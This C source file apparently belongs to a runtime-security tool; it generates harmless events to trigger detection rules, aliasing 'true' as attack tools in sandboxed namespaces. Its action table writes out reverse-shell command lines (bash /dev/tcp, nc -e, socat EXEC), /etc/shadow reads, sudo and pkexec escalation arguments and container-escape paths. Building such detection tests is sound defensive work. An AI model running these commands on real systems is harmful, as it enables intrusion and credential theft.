#include "gen_actions.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/bpf.h>
#include <linux/if_ether.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include "gen_name.h"
#include "sk_log.h"

extern char **environ;

/* A documentation address (TEST-NET-2): stands for "somewhere on the
 * Internet" and only ever exists on the loopback of a private netns. */
#define REMOTE_IP "198.51.100.7"
#define MAX_ARGS 16
#define MAX_ENV 512

/* ---- small file helpers -------------------------------------------------- */

/* Expands a leading "{tmp}" to the action's temp dir. */
static void expand_path(const gen_env *env, const char *in, char *out, size_t cap)
{
	if (strncmp(in, "{tmp}", 5) == 0) {
		snprintf(out, cap, "%s%s", env->tmpdir, in + 5);
	} else {
		snprintf(out, cap, "%s", in);
	}
}

/* mkdir -p of path's parent directory. */
static sk_err make_parents(const char *path)
{
	char buf[PATH_MAX];

	snprintf(buf, sizeof(buf), "%s", path);
	for (char *p = buf + 1; *p != '\0'; p++) {
		if (*p != '/') {
			continue;
		}
		*p = '\0';
		if (mkdir(buf, 0755) != 0 && errno != EEXIST) {
			return SK_EIO;
		}
		*p = '/';
	}
	return SK_OK;
}

static sk_err open_close(const char *path, int flags)
{
	int fd;

	if ((flags & O_CREAT) && make_parents(path) != SK_OK) {
		return SK_EIO;
	}
	fd = open(path, flags | O_CLOEXEC, 0644);
	if (fd < 0) {
		sk_error("open %s: %s", path, strerror(errno));
		return SK_EIO;
	}
	close(fd);
	return SK_OK;
}

static sk_err create_file(const char *path)
{
	return open_close(path, O_WRONLY | O_CREAT | O_TRUNC);
}

/* Looks a program up in PATH (or takes it as is when it has a slash). */
static sk_err find_program(const char *name, char *out, size_t cap)
{
	const char *path = getenv("PATH");
	char dirs[4096];
	char *save = NULL;

	if (strchr(name, '/') != NULL) {
		snprintf(out, cap, "%s", name);
		return access(out, X_OK) == 0 ? SK_OK : SK_ENOENT;
	}
	snprintf(dirs, sizeof(dirs), "%s", path != NULL ? path : "/usr/local/bin:/usr/bin:/bin");
	for (char *d = strtok_r(dirs, ":", &save); d != NULL; d = strtok_r(NULL, ":", &save)) {
		snprintf(out, cap, "%s/%s", d, name);
		if (access(out, X_OK) == 0) {
			return SK_OK;
		}
	}
	sk_error("%s not found in PATH", name);
	return SK_ENOENT;
}

static sk_err copy_file(const char *from, int to_fd)
{
	char buf[65536];
	ssize_t n;
	int in = open(from, O_RDONLY | O_CLOEXEC);
	sk_err err = SK_OK;

	if (in < 0) {
		return SK_EIO;
	}
	while ((n = read(in, buf, sizeof(buf))) > 0) {
		if (write(to_fd, buf, (size_t)n) != n) {
			err = SK_EIO;
			break;
		}
	}
	if (n < 0) {
		err = SK_EIO;
	}
	close(in);
	return err;
}

/* Copies the `true` program to dest (mode 0755): a harmless executable. */
static sk_err drop_true_binary(const char *dest)
{
	char src[PATH_MAX];
	int fd;
	sk_err err = find_program("true", src, sizeof(src));

	if (err != SK_OK) {
		return err;
	}
	fd = open(dest, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
	if (fd < 0) {
		sk_error("create %s: %s", dest, strerror(errno));
		return SK_EIO;
	}
	err = copy_file(src, fd);
	close(fd);
	return err;
}

static sk_err wait_for(pid_t pid)
{
	int status = 0;

	if (pid < 0) {
		return SK_EIO;
	}
	while (waitpid(pid, &status, 0) < 0) {
		if (errno != EINTR) {
			return SK_EIO;
		}
	}
	return WIFEXITED(status) && WEXITSTATUS(status) == 0 ? SK_OK : SK_EIO;
}

/* Runs path with argv in a child and waits for it. */
static sk_err spawn_wait(const char *path, char *const argv[])
{
	pid_t pid = fork();

	if (pid == 0) {
		execv(path, argv);
		_exit(127);
	}
	return wait_for(pid);
}

static sk_err tcp_connect(const char *ip, int port)
{
	struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
	int fd;
	sk_err err = SK_OK;

	if (inet_pton(AF_INET, ip, &sa.sin_addr) != 1) {
		return SK_EINVAL;
	}
	fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd < 0) {
		return SK_EIO;
	}
	if (connect(fd, (struct sockaddr *)&sa, sizeof(sa)) != 0) {
		sk_error("connect %s:%d: %s", ip, port, strerror(errno));
		err = SK_EIO;
	}
	close(fd);
	return err;
}

/* ---- steps ----------------------------------------------------------------- */

/* Executes a.target (or this program) under the name a.argv[0] through a
 * symlink in the temp dir, with a.envp added to the environment. */
static sk_err step_exec(const gen_env *env, const gen_action *a)
{
	char target[PATH_MAX], link[PATH_MAX];
	char args[MAX_ARGS][PATH_MAX];
	char *argv[MAX_ARGS + 1];
	char *envp[MAX_ENV + 1];
	size_t argc = 0, envc = 0;
	sk_err err = SK_OK;

	if (a->target != NULL) {
		err = find_program(a->target, target, sizeof(target));
	} else {
		snprintf(target, sizeof(target), "%s", env->self_exe);
	}
	if (err != SK_OK) {
		return err;
	}
	snprintf(link, sizeof(link), "%s/%s", env->tmpdir, a->argv[0]);
	if (symlink(target, link) != 0) {
		return SK_EIO;
	}
	for (; a->argv[argc] != NULL && argc < MAX_ARGS; argc++) {
		expand_path(env, a->argv[argc], args[argc], sizeof(args[argc]));
		argv[argc] = args[argc];
	}
	argv[argc] = NULL;
	for (size_t i = 0; a->envp != NULL && a->envp[i] != NULL && envc < MAX_ENV / 2; i++) {
		envp[envc++] = (char *)a->envp[i];
	}
	for (size_t i = 0; environ[i] != NULL && envc < MAX_ENV; i++) {
		envp[envc++] = environ[i];
	}
	envp[envc] = NULL;
	execve(link, argv, envp);
	sk_error("exec %s: %s", link, strerror(errno));
	return SK_EIO;
}

/* Opens a.path with open flags a.number (creating parents with O_CREAT). */
static sk_err step_open(const gen_env *env, const gen_action *a)
{
	char path[PATH_MAX];

	expand_path(env, a->path, path, sizeof(path));
	return open_close(path, a->number);
}

/* Creates a.path, then opens it for reading. */
static sk_err step_create_read(const gen_env *env, const gen_action *a)
{
	char path[PATH_MAX];
	sk_err err;

	expand_path(env, a->path, path, sizeof(path));
	err = create_file(path);
	return err != SK_OK ? err : open_close(path, O_RDONLY);
}

/* Creates a.path, then deletes it. */
static sk_err step_create_unlink(const gen_env *env, const gen_action *a)
{
	char path[PATH_MAX];
	sk_err err;

	expand_path(env, a->path, path, sizeof(path));
	err = create_file(path);
	if (err == SK_OK && unlink(path) != 0) {
		err = SK_EIO;
	}
	return err;
}

/* Creates a.path, then chmods it to a.number. */
static sk_err step_create_chmod(const gen_env *env, const gen_action *a)
{
	char path[PATH_MAX];
	sk_err err;

	expand_path(env, a->path, path, sizeof(path));
	err = create_file(path);
	if (err == SK_OK && chmod(path, (mode_t)a->number) != 0) {
		err = SK_EIO;
	}
	return err;
}

/* Symlink (number 0) or hard link (number 1) a.path2 -> a.path. Only the
 * attempt matters: a cross-device hard link fails and is still reported. */
static sk_err step_link(const gen_env *env, const gen_action *a)
{
	char name[PATH_MAX];

	expand_path(env, a->path2, name, sizeof(name));
	if (a->number == 0) {
		return symlink(a->path, name) == 0 ? SK_OK : SK_EIO;
	}
	return link(a->path, name) == 0 || errno == EXDEV ? SK_OK : SK_EIO;
}

/* Copies `true` to a.path and runs it from there. */
static sk_err step_drop_exec(const gen_env *env, const gen_action *a)
{
	char path[PATH_MAX];
	char *argv[] = {path, NULL};
	sk_err err;

	expand_path(env, a->path, path, sizeof(path));
	err = make_parents(path);
	if (err == SK_OK) {
		err = drop_true_binary(path);
	}
	return err != SK_OK ? err : spawn_wait(path, argv);
}

/* Mounts an overlay like a container runtime's (image = lower, writes =
 * upper), drops `true` into it and runs it: its exe is on the upper layer. */
static sk_err step_overlay_exec(const gen_env *env, const gen_action *a)
{
	char opts[PATH_MAX * 3 + 64], merged[PATH_MAX], path[PATH_MAX + 16];
	char *argv[] = {path, NULL};
	static const char *const dirs[] = {"lower", "upper", "work", "merged"};
	sk_err err;

	for (size_t i = 0; i < sizeof(dirs) / sizeof(dirs[0]); i++) {
		snprintf(merged, sizeof(merged), "%s/%s", env->tmpdir, dirs[i]);
		if (mkdir(merged, 0755) != 0) {
			return SK_EIO;
		}
	}
	snprintf(opts, sizeof(opts), "lowerdir=%s/lower,upperdir=%s/upper,workdir=%s/work", env->tmpdir,
		 env->tmpdir, env->tmpdir);
	if (mount("overlay", merged, "overlay", 0, opts) != 0) {
		sk_error("overlay mount: %s", strerror(errno));
		return SK_EIO;
	}
	snprintf(path, sizeof(path), "%s/dropped", merged);
	err = drop_true_binary(path);
	if (err == SK_OK) {
		err = spawn_wait(path, argv);
	}
	umount2(merged, MNT_DETACH);
	return err;
}

/* Runs `true` from an anonymous memory file. */
static sk_err step_memfd_exec(const gen_env *env, const gen_action *a)
{
	char src[PATH_MAX];
	char *argv[] = {"saker-evgen-memfd", NULL};
	int fd = (int)syscall(SYS_memfd_create, "saker-evgen", 0);
	pid_t pid;
	sk_err err;

	if (fd < 0) {
		return SK_EIO;
	}
	err = find_program("true", src, sizeof(src));
	if (err == SK_OK) {
		err = copy_file(src, fd);
	}
	if (err != SK_OK) {
		close(fd);
		return err;
	}
	pid = fork();
	if (pid == 0) {
		syscall(SYS_execveat, fd, "", argv, environ, AT_EMPTY_PATH);
		_exit(127);
	}
	close(fd);
	return wait_for(pid);
}

/* Connects to the listener of the action's network namespace. */
static sk_err step_connect(const gen_env *env, const gen_action *a)
{
	return tcp_connect(a->box.listen_ip, a->box.listen_port);
}

/* Puts a TCP connection to the netns' "remote" listener on stdin, as a
 * reverse shell does. */
static sk_err step_dup_socket(const gen_env *env, const gen_action *a)
{
	struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(a->box.listen_port)};
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	sk_err err = SK_EIO;

	if (fd >= 0 && inet_pton(AF_INET, a->box.listen_ip, &sa.sin_addr) == 1 &&
	    connect(fd, (struct sockaddr *)&sa, sizeof(sa)) == 0 && dup2(fd, STDIN_FILENO) == STDIN_FILENO) {
		err = SK_OK;
	}
	if (fd >= 0) {
		close(fd);
	}
	return err;
}

/* Opens a unix listener at a.path (a runtime socket) and connects to it. */
static sk_err step_unix_socket(const gen_env *env, const gen_action *a)
{
	struct sockaddr_un sa = {.sun_family = AF_UNIX};
	int srv = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	int cli = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	sk_err err = SK_EIO;

	snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", a->path);
	if (srv >= 0 && cli >= 0 && bind(srv, (struct sockaddr *)&sa, sizeof(sa)) == 0 && listen(srv, 1) == 0 &&
	    connect(cli, (struct sockaddr *)&sa, sizeof(sa)) == 0) {
		err = SK_OK;
	}
	if (srv >= 0) {
		close(srv);
	}
	if (cli >= 0) {
		close(cli);
	}
	return err;
}

/* A child asks to be traced by its parent, then exits. */
static sk_err step_ptrace_traceme(const gen_env *env, const gen_action *a)
{
	pid_t pid = fork();

	if (pid == 0) {
		_exit(ptrace(PTRACE_TRACEME, 0, NULL, NULL) == 0 ? 0 : 1);
	}
	return wait_for(pid);
}

/* Asks the kernel to load a file that is not a module: the request is
 * made (and seen) and rejected, nothing is loaded. */
static sk_err step_finit_module(const gen_env *env, const gen_action *a)
{
	char path[PATH_MAX];
	int fd;
	long r;

	snprintf(path, sizeof(path), "%s/saker-evgen.ko", env->tmpdir);
	fd = open(path, O_RDWR | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
	if (fd < 0 || write(fd, "not an ELF module\n", 18) != 18) {
		return SK_EIO;
	}
	r = syscall(SYS_finit_module, fd, "", 0);
	close(fd);
	return r != 0 ? SK_OK : SK_EINTERNAL; /* a load of this file must fail */
}

/* Loads the smallest socket filter ("return 0") and unloads it. */
static sk_err step_bpf_load(const gen_env *env, const gen_action *a)
{
	struct bpf_insn prog[] = {
		{.code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = BPF_REG_0, .imm = 0},
		{.code = BPF_JMP | BPF_EXIT},
	};
	union bpf_attr attr;
	long fd;

	memset(&attr, 0, sizeof(attr));
	attr.prog_type = BPF_PROG_TYPE_SOCKET_FILTER;
	attr.insns = (uint64_t)(uintptr_t)prog;
	attr.insn_cnt = 2;
	attr.license = (uint64_t)(uintptr_t) "GPL";
	fd = syscall(SYS_bpf, BPF_PROG_LOAD, &attr, sizeof(attr));
	if (fd >= 0) {
		close((int)fd);
	}
	return SK_OK; /* the attempt is what the rule sees; lockdown may refuse it */
}

static sk_err step_packet_socket(const gen_env *env, const gen_action *a)
{
	int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_ALL));

	if (fd < 0) {
		return SK_EIO;
	}
	close(fd);
	return SK_OK;
}

/* Re-joins its own UTS namespace: a setns that changes nothing. */
static sk_err step_setns_self(const gen_env *env, const gen_action *a)
{
	int fd = open("/proc/self/ns/uts", O_RDONLY | O_CLOEXEC);
	sk_err err = SK_OK;

	if (fd < 0) {
		return SK_EIO;
	}
	if (setns(fd, CLONE_NEWUTS) != 0) {
		err = SK_EIO;
	}
	close(fd);
	return err;
}

static sk_err step_unshare_uts(const gen_env *env, const gen_action *a)
{
	return unshare(CLONE_NEWUTS) == 0 ? SK_OK : SK_EIO;
}

/* As a non-root user, asks to become root (refused with EPERM). */
static sk_err step_setuid_root(const gen_env *env, const gen_action *a)
{
	if (getuid() == 0) {
		return SK_EINTERNAL;
	}
	return setuid(0) != 0 ? SK_OK : SK_EINTERNAL;
}

static sk_err step_userfaultfd(const gen_env *env, const gen_action *a)
{
	long fd = syscall(SYS_userfaultfd, O_CLOEXEC);

	if (fd >= 0) {
		close((int)fd);
	}
	return SK_OK; /* vm.unprivileged_userfaultfd=0 refuses it: the call is what counts */
}

/* mkdir a.path, rename it to a.path2, remove it. */
static sk_err step_dir_shuffle(const gen_env *env, const gen_action *a)
{
	if (mkdir(a->path, 0755) != 0 || rename(a->path, a->path2) != 0 || rmdir(a->path2) != 0) {
		return SK_EIO;
	}
	return SK_OK;
}

/* ---- helpers run by aliased re-executions --------------------------------- */

static int helper_spawn_shell(void)
{
	char *argv[] = {"sh", "-c", "true", NULL};
	char sh[PATH_MAX];

	return find_program("sh", sh, sizeof(sh)) == SK_OK && spawn_wait(sh, argv) == SK_OK ? 0 : 1;
}

static int helper_ptrace_attach(void)
{
	pid_t pid = fork();
	int status = 0;
	int ret = 1;

	if (pid < 0) {
		return 1;
	}
	if (pid == 0) {
		for (int i = 0; i < 100; i++) {
			usleep(50000);
		}
		_exit(0);
	}
	if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) == 0 && waitpid(pid, &status, 0) == pid) {
		ptrace(PTRACE_DETACH, pid, NULL, NULL);
		ret = 0;
	}
	kill(pid, SIGKILL);
	waitpid(pid, &status, 0);
	return ret;
}

static int helper_listen(const char *ip, int port)
{
	struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	int ret = 1;

	if (fd >= 0 && inet_pton(AF_INET, ip, &sa.sin_addr) == 1 &&
	    bind(fd, (struct sockaddr *)&sa, sizeof(sa)) == 0 && listen(fd, 1) == 0) {
		ret = 0;
	}
	if (fd >= 0) {
		close(fd);
	}
	return ret;
}

int gen_helper_main(int argc, char **argv)
{
	const char *what = argc > 0 ? argv[0] : "";

	if (strcmp(what, "spawn-shell") == 0) {
		return helper_spawn_shell();
	}
	if (strcmp(what, "ptrace-attach") == 0) {
		return helper_ptrace_attach();
	}
	if (argc == 3 && strcmp(what, "connect") == 0) {
		return tcp_connect(argv[1], atoi(argv[2])) == SK_OK ? 0 : 1;
	}
	if (argc == 3 && strcmp(what, "listen") == 0) {
		return helper_listen(argv[1], atoi(argv[2]));
	}
	sk_error("unknown helper '%s'", what);
	return 2;
}

/* ---- the table ------------------------------------------------------------- */

#define ARGV(...) ((const char *const[]){__VA_ARGS__, NULL})
/* Run `prog` under the process name argv0. */
#define ALIAS(prog, ...) .step = step_exec, .target = prog, .argv = ARGV(__VA_ARGS__)
/* Run this generator's helper under the process name argv0. */
#define HELPER(argv0, ...) .step = step_exec, .target = NULL, .argv = ARGV(argv0, "helper", __VA_ARGS__)
#define CONTAINER .box.flags = GEN_IN_CONTAINER
#define WRITE_NEW (O_WRONLY | O_CREAT | O_TRUNC)
#define NET(ip, port) .box.listen_ip = ip, .box.listen_port = port

static const gen_action actions[] = {
	/* Shells and interactive tools */
	{.rule = "Terminal shell in container", .does = "sh with a controlling pty in a container",
	 .box.flags = GEN_IN_CONTAINER | GEN_TTY, ALIAS("sh", "sh", "-c", "true")},
	{.rule = "Shell spawned by web server", .does = "a process named nginx runs sh -c true",
	 HELPER("nginx", "spawn-shell")},
	{.rule = "Shell spawned by database server", .does = "a process named mysqld runs sh -c true",
	 HELPER("mysqld", "spawn-shell")},
	{.rule = "Debugging tool launched in container", .does = "strace (true) in a container", CONTAINER,
	 ALIAS("true", "strace", "-p", "1")},
	{.rule = "Kubernetes client tool launched in container", .does = "kubectl (true) in a container",
	 CONTAINER, ALIAS("true", "kubectl", "get", "pods")},
	{.rule = "Container runtime client launched in container", .does = "crictl (true) in a container",
	 CONTAINER, ALIAS("true", "crictl", "ps")},
	{.rule = "Package manager launched in container", .does = "apt-get (true) in a container", CONTAINER,
	 ALIAS("true", "apt-get", "install", "-y", "nmap")},
	{.rule = "Remote copy tool launched in container", .does = "scp (true) in a container", CONTAINER,
	 ALIAS("true", "scp", "/etc/hostname", "127.0.0.1:/tmp/")},
	{.rule = "Network scanner launched", .does = "nmap (true) -sn 127.0.0.1",
	 ALIAS("true", "nmap", "-sn", "127.0.0.1")},
	/* Reverse shells */
	{.rule = "Netcat remote code execution", .does = "nc (true) -e /bin/sh 127.0.0.1 9",
	 ALIAS("true", "nc", "-e", "/bin/sh", "127.0.0.1", "9")},
	{.rule = "Socat command execution", .does = "socat (true) TCP:127.0.0.1:9 EXEC:/bin/sh",
	 ALIAS("true", "socat", "TCP:127.0.0.1:9", "EXEC:/bin/sh")},
	{.rule = "Standard stream redirected to network socket",
	 .does = "dup2 of a TCP connection to " REMOTE_IP ":9001 onto fd 0 (private netns)", .box.flags = GEN_NETNS,
	 NET(REMOTE_IP, 9001), .step = step_dup_socket},
	{.rule = "Reverse shell command line", .does = "true with a bash /dev/tcp redirection as argument",
	 ALIAS("true", "true", "-c", "bash -i >& /dev/tcp/127.0.0.1/9 0>&1")},
	/* Sensitive files and credentials */
	{.rule = "Read sensitive file untrusted", .does = "opens /etc/shadow for reading", .step = step_open,
	 .path = "/etc/shadow", .number = O_RDONLY},
	{.rule = "Sensitive file reached by path traversal", .does = "opens /etc/../etc/../etc/shadow",
	 .step = step_open, .path = "/etc/../etc/../etc/shadow", .number = O_RDONLY},
	{.rule = "SSH private key read", .does = "creates and reads {tmp}/.ssh/id_ed25519",
	 .step = step_create_read, .path = "{tmp}/.ssh/id_ed25519"},
	{.rule = "SSH host key read", .does = "creates and reads /etc/ssh/ssh_host_ed25519_key (tmpfs /etc)",
	 .box.shadow = "/etc", .step = step_create_read, .path = "/etc/ssh/ssh_host_ed25519_key"},
	{.rule = "SSH authorized_keys modified", .does = "writes {tmp}/.ssh/authorized_keys", .step = step_open,
	 .path = "{tmp}/.ssh/authorized_keys", .number = WRITE_NEW},
	{.rule = "Cloud credentials read", .does = "creates and reads {tmp}/.aws/credentials",
	 .step = step_create_read, .path = "{tmp}/.aws/credentials"},
	{.rule = "Kubernetes service account token read in container",
	 .does = "reads /run/secrets/kubernetes.io/serviceaccount/token in a container (tmpfs /run)", CONTAINER,
	 .box.shadow = "/run", .step = step_create_read, .path = "/run/secrets/kubernetes.io/serviceaccount/token"},
	{.rule = "Search private keys or passwords", .does = "find {tmp} -maxdepth 1 -name id_rsa",
	 ALIAS("find", "find", "{tmp}", "-maxdepth", "1", "-name", "id_rsa")},
	{.rule = "Search cloud credentials", .does = "find {tmp} -maxdepth 2 -path */.aws/credentials",
	 ALIAS("find", "find", "{tmp}", "-maxdepth", "2", "-path", "*/.aws/credentials")},
	{.rule = "Raw memory device read", .does = "creates and reads a plain file /dev/mem (tmpfs /dev)",
	 .box.shadow = "/dev", .step = step_create_read, .path = "/dev/mem"},
	{.rule = "Process environment read in container", .does = "reads /proc/self/environ in a container",
	 CONTAINER, .step = step_open, .path = "/proc/self/environ", .number = O_RDONLY},
	/* Writes to system directories */
	{.rule = "Write below etc", .does = "creates /etc/saker-evgen.conf (tmpfs /etc)", .box.shadow = "/etc",
	 .step = step_open, .path = "/etc/saker-evgen.conf", .number = WRITE_NEW},
	{.rule = "Account database modified", .does = "opens /etc/shadow for writing (tmpfs /etc)",
	 .box.shadow = "/etc", .step = step_open, .path = "/etc/shadow", .number = WRITE_NEW},
	{.rule = "Sudoers file modified", .does = "writes /etc/sudoers.d/saker-evgen (tmpfs /etc)",
	 .box.shadow = "/etc", .step = step_open, .path = "/etc/sudoers.d/saker-evgen", .number = WRITE_NEW},
	{.rule = "PAM configuration modified", .does = "writes /etc/pam.d/saker-evgen (tmpfs /etc)",
	 .box.shadow = "/etc", .step = step_open, .path = "/etc/pam.d/saker-evgen", .number = WRITE_NEW},
	{.rule = "Dynamic linker preload file modified", .does = "writes /etc/ld.so.preload (tmpfs /etc)",
	 .box.shadow = "/etc", .step = step_open, .path = "/etc/ld.so.preload", .number = WRITE_NEW},
	{.rule = "Write below root home", .does = "writes /root/saker-evgen.txt (tmpfs /root)",
	 .box.shadow = "/root", .step = step_open, .path = "/root/saker-evgen.txt", .number = WRITE_NEW},
	{.rule = "Write below binary dir", .does = "writes /usr/local/bin/saker-evgen (tmpfs /usr/local/bin)",
	 .box.shadow = "/usr/local/bin", .step = step_open, .path = "/usr/local/bin/saker-evgen",
	 .number = WRITE_NEW},
	{.rule = "Binary directory modified", .does = "mkdir, rename, rmdir below /usr/bin (tmpfs /usr/bin)",
	 .box.shadow = "/usr/bin", .step = step_dir_shuffle, .path = "/usr/bin/saker-evgen",
	 .path2 = "/usr/bin/saker-evgen.renamed"},
	{.rule = "Write below library dir", .does = "writes /usr/local/lib/libsaker-evgen.so (tmpfs /usr/local/lib)",
	 .box.shadow = "/usr/local/lib", .step = step_open, .path = "/usr/local/lib/libsaker-evgen.so",
	 .number = WRITE_NEW},
	{.rule = "Symlink over sensitive file", .does = "symlink {tmp}/shadow -> /etc/shadow", .step = step_link,
	 .path = "/etc/shadow", .path2 = "{tmp}/shadow", .number = 0},
	{.rule = "Hardlink over sensitive file", .does = "hard link {tmp}/shadow -> /etc/shadow", .step = step_link,
	 .path = "/etc/shadow", .path2 = "{tmp}/shadow", .number = 1},
	{.rule = "Shell configuration file modified", .does = "writes {tmp}/.bashrc", .step = step_open,
	 .path = "{tmp}/.bashrc", .number = WRITE_NEW},
	{.rule = "Systemd unit created or modified", .does = "writes /etc/systemd/system/saker-evgen.service (tmpfs /etc)",
	 .box.shadow = "/etc", .step = step_open, .path = "/etc/systemd/system/saker-evgen.service",
	 .number = WRITE_NEW},
	{.rule = "Cron job scheduled", .does = "crontab (true) {tmp}/jobs", ALIAS("true", "crontab", "{tmp}/jobs")},
	/* Log and history tampering */
	{.rule = "Log file cleared", .does = "truncates /var/log/auth.log (tmpfs /var/log)", .box.shadow = "/var/log",
	 .step = step_open, .path = "/var/log/auth.log", .number = WRITE_NEW},
	{.rule = "Shell history deleted", .does = "creates and deletes {tmp}/.bash_history",
	 .step = step_create_unlink, .path = "{tmp}/.bash_history"},
	{.rule = "Shell history disabled", .does = "sh -c true with HISTFILE=/dev/null",
	 ALIAS("sh", "sh", "-c", "true"), .envp = ARGV("HISTFILE=/dev/null")},
	{.rule = "Bulk data removal with wiping tool", .does = "shred (true) -u {tmp}/evidence",
	 ALIAS("true", "shred", "-u", "{tmp}/evidence")},
	/* Fileless and dropped executables */
	{.rule = "Execution from /dev/shm", .does = "runs a copy of true from /dev/shm (tmpfs /dev/shm)",
	 .box.shadow = "/dev/shm", .step = step_drop_exec, .path = "/dev/shm/saker-evgen"},
	{.rule = "Fileless execution via memfd_create", .does = "runs true from a memfd",
	 .step = step_memfd_exec},
	{.rule = "Drop and execute new binary in container",
	 .does = "runs a copy of true from an overlay upper layer in a container", CONTAINER,
	 .step = step_overlay_exec},
	{.rule = "Execution from temporary directory", .does = "runs a copy of true from {tmp}",
	 .step = step_drop_exec, .path = "{tmp}/dropped"},
	/* Debugging, injection, kernel */
	{.rule = "PTRACE attached to process", .does = "a process named injector attaches to its child",
	 HELPER("injector", "ptrace-attach")},
	{.rule = "PTRACE anti-debug attempt", .does = "a child calls PTRACE_TRACEME", .step = step_ptrace_traceme},
	{.rule = "Kernel module load attempt", .does = "finit_module of a non-module file (refused)",
	 .step = step_finit_module},
	{.rule = "Kernel module tool run interactively", .does = "insmod (true) with a controlling pty",
	 .box.flags = GEN_TTY, ALIAS("true", "insmod", "{tmp}/saker-evgen.ko")},
	{.rule = "BPF program loaded by unexpected process", .does = "loads and unloads a 2-instruction socket filter",
	 .step = step_bpf_load},
	/* Network */
	{.rule = "Packet socket created in container", .does = "socket(AF_PACKET) in a container", CONTAINER,
	 .step = step_packet_socket},
	{.rule = "Outbound connection from unexpected program",
	 .does = "a process named sha256sum connects to " REMOTE_IP ":8080 (private netns)",
	 .box.flags = GEN_NETNS, NET(REMOTE_IP, 8080), HELPER("sha256sum", "connect", REMOTE_IP, "8080")},
	{.rule = "Disallowed SSH connection non standard port",
	 .does = "a process named ssh connects to " REMOTE_IP ":443 (private netns)", .box.flags = GEN_NETNS,
	 NET(REMOTE_IP, 443), HELPER("ssh", "connect", REMOTE_IP, "443")},
	{.rule = "Crypto miner launched", .does = "xmrig (true)", ALIAS("true", "xmrig", "--donate-level", "1")},
	{.rule = "Detect crypto miners using the Stratum protocol", .does = "true -o stratum+tcp://127.0.0.1:3333",
	 ALIAS("true", "true", "-o", "stratum+tcp://127.0.0.1:3333")},
	{.rule = "Outbound connection to crypto mining pool",
	 .does = "connects to " REMOTE_IP ":3333 (private netns)", .box.flags = GEN_NETNS, NET(REMOTE_IP, 3333),
	 .step = step_connect},
	{.rule = "Contact cloud metadata service from container",
	 .does = "connects to 169.254.169.254:80 in a container (address on its own lo)", CONTAINER,
	 NET("169.254.169.254", 80), .step = step_connect},
	{.rule = "Contact K8S API server from container",
	 .does = "connects to 10.96.0.1:443 in a container (address on its own lo)", CONTAINER,
	 NET("10.96.0.1", 443), .step = step_connect},
	/* Container escape */
	{.rule = "Detect release_agent file container escapes", .does = "writes {tmp}/release_agent in a container",
	 CONTAINER, .step = step_open, .path = "{tmp}/release_agent", .number = WRITE_NEW},
	{.rule = "Container escape via kernel helper path",
	 .does = "opens /proc/sys/kernel/core_pattern for writing in a container (writes nothing)", CONTAINER,
	 .step = step_open, .path = "/proc/sys/kernel/core_pattern", .number = O_WRONLY},
	{.rule = "Mount launched in privileged container", .does = "mount (true) -t tmpfs in a container",
	 CONTAINER, ALIAS("true", "mount", "-t", "tmpfs", "none", "{tmp}")},
	{.rule = "Debugfs launched in privileged container", .does = "debugfs (true) -w /dev/sda1 in a container",
	 CONTAINER, ALIAS("true", "debugfs", "-w", "/dev/sda1")},
	{.rule = "Change thread namespace", .does = "setns into its own UTS namespace in a container", CONTAINER,
	 .step = step_setns_self},
	{.rule = "Unshare in container", .does = "unshare(CLONE_NEWUTS) in a container", CONTAINER,
	 .step = step_unshare_uts},
	{.rule = "Nsenter launched", .does = "nsenter (true) -t 1 -m -u -i -n -p",
	 ALIAS("true", "nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p")},
	{.rule = "Container runtime socket contacted from container",
	 .does = "connects to /run/docker.sock (its own listener, tmpfs /run) in a container", CONTAINER,
	 .box.shadow = "/run", .step = step_unix_socket, .path = "/run/docker.sock"},
	/* Privilege escalation */
	{.rule = "Non sudo setuid", .does = "as daemon, setuid(0) (refused)", .box.flags = GEN_AS_DAEMON,
	 .step = step_setuid_root},
	{.rule = "Set setuid or setgid bit", .does = "chmod 4755 {tmp}/suid", .step = step_create_chmod,
	 .path = "{tmp}/suid", .number = 04755},
	{.rule = "Sudo user id bypass attempt", .does = "sudo (true) -u#-1 id", ALIAS("true", "sudo", "-u#-1", "id")},
	{.rule = "Sudo potential privilege escalation", .does = "sudoedit (true) -s 'x\\'",
	 ALIAS("true", "sudoedit", "-s", "x\\")},
	{.rule = "Polkit pkexec with empty argument list", .does = "pkexec (true) without arguments",
	 ALIAS("true", "pkexec")},
	{.rule = "Environment variable privilege escalation", .does = "true with GLIBC_TUNABLES=glibc.malloc.check=0",
	 ALIAS("true", "true"), .envp = ARGV("GLIBC_TUNABLES=glibc.malloc.check=0")},
	{.rule = "System user interactive", .does = "as daemon, sh -c true with a controlling pty",
	 .box.flags = GEN_TTY | GEN_AS_DAEMON, ALIAS("sh", "sh", "-c", "true")},
	{.rule = "User management tool launched", .does = "useradd (true) saker-evgen",
	 ALIAS("true", "useradd", "saker-evgen")},
	/* saker_rules_extra.yaml */
	{.rule = "Download tool launched in container", .does = "wget (true) in a container", .extra = true,
	 CONTAINER, ALIAS("true", "wget", "http://127.0.0.1:9/x")},
	{.rule = "Decoding payload in container", .does = "base64 (true) -d in a container", .extra = true, CONTAINER,
	 ALIAS("true", "base64", "-d")},
	{.rule = "Compiler launched in container", .does = "gcc (true) in a container", .extra = true, CONTAINER,
	 ALIAS("true", "gcc", "-o", "x", "x.c")},
